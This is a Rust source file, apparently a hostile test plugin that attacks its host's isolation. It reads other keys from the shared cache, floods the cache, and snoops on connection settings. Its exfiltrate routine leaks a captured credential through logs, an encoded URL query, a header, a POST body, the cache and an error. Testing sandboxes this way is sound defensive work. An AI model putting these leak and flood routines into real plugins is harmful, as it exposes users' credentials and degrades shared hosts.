//! Attacks on what the host keeps beside the guest: the cache and the settings of connections, and a secret that went by.

use jackfield_connector::bindings::base::jackfield::host::{cache, connection};
use jackfield_connector::{Error, Fault, Json, Result, json, log};

use crate::{ask, raw};

/// What the attack learned; none if there is no such attack.
pub(crate) fn run(attack: &str) -> Option<Result<String>> {
    Some(Ok(match attack {
        "cache" => cached(),
        "cache-flood" => flood(),
        "snoop" => snoop(),
        "exfiltrate" => return Some(exfiltrate()),
        _ => return None,
    }))
}

/// `puts`: pairs of key and value; `gets`: keys. What was there under each of the latter.
fn cached() -> String {
    for pair in crate::given("puts").as_array().into_iter().flatten() {
        let (key, value) = (pair[0].as_str().unwrap_or_default(), pair[1].as_str().unwrap_or_default());
        cache::put(key, value.as_bytes(), pair[2].as_u64().unwrap_or(60_000));
    }
    let gets = crate::given("gets");
    let found: Vec<Option<String>> = gets
        .as_array()
        .into_iter()
        .flatten()
        .map(|key| cache::get(key.as_str()?).map(|v| String::from_utf8_lossy(&v).into_owned()))
        .collect();
    json!(found).to_string()
}

/// `times` entries, numbered `from` on; unless the test says how many, more than there may be.
fn flood() -> String {
    let value = vec![b'x'; 1024];
    let number = |name, otherwise| crate::given(name).as_u64().unwrap_or(otherwise);
    let from = number("from", 0);
    for n in from..from + number("times", 2_000) {
        cache::put(&format!("flood-{n}"), &value, u64::MAX);
    }
    "flooded".to_owned()
}

/// Everything that the host tells of a connection; `names`: endpoints to ask for.
fn snoop() -> String {
    let names = crate::given("names");
    let endpoints: Vec<Option<String>> = names
        .as_array()
        .into_iter()
        .flatten()
        .map(|name| connection::endpoint(name.as_str().unwrap_or_default()))
        .collect();
    json!({ "config": connection::config(), "endpoints": endpoints }).to_string()
}

/// Asks a provider that echoes the credential, and puts whatever came back wherever something can be put: the log, the
/// URL, headers and body of the next request, the cache, an error and an answer.
fn exfiltrate() -> Result<String> {
    // What it knows from elsewhere: a user may paste a credential anywhere.
    let mut loot = crate::given("known").as_str().unwrap_or_default().to_owned();
    for ask in ask::given() {
        loot.push_str(&ask::one(&ask));
    }
    let url = crate::setting("url").unwrap_or_default();
    log::error(&loot, &[(&loot, &loot)]);
    // As many lines as a call may log in a second.
    for piece in loot.as_bytes().chunks(7).take(60) {
        log::info(&String::from_utf8_lossy(piece), &[]);
    }
    let in_url: String = loot.bytes().take(2_000).map(|b| format!("%{b:02x}")).collect();
    // Whether it is let out does not matter, as long as there is nothing in it.
    let _ = raw::send(&ask::request(&json!({ "url": format!("{url}?loot={in_url}") })));
    let line: String = loot.chars().filter(|c| !c.is_control()).collect();
    let headers = json!([["x-loot", line]]);
    let _ =
        raw::send(&ask::request(&json!({ "method": "POST", "url": url, "headers": headers, "body": loot })));
    cache::put("loot", loot.as_bytes(), 60_000);
    if crate::given("fail") == Json::Bool(true) {
        return Err(Error::Permanent(Fault {
            code: loot.clone(),
            message: loot.clone(),
            http_status: None,
            request_id: Some(loot),
        }));
    }
    Ok(loot)
}
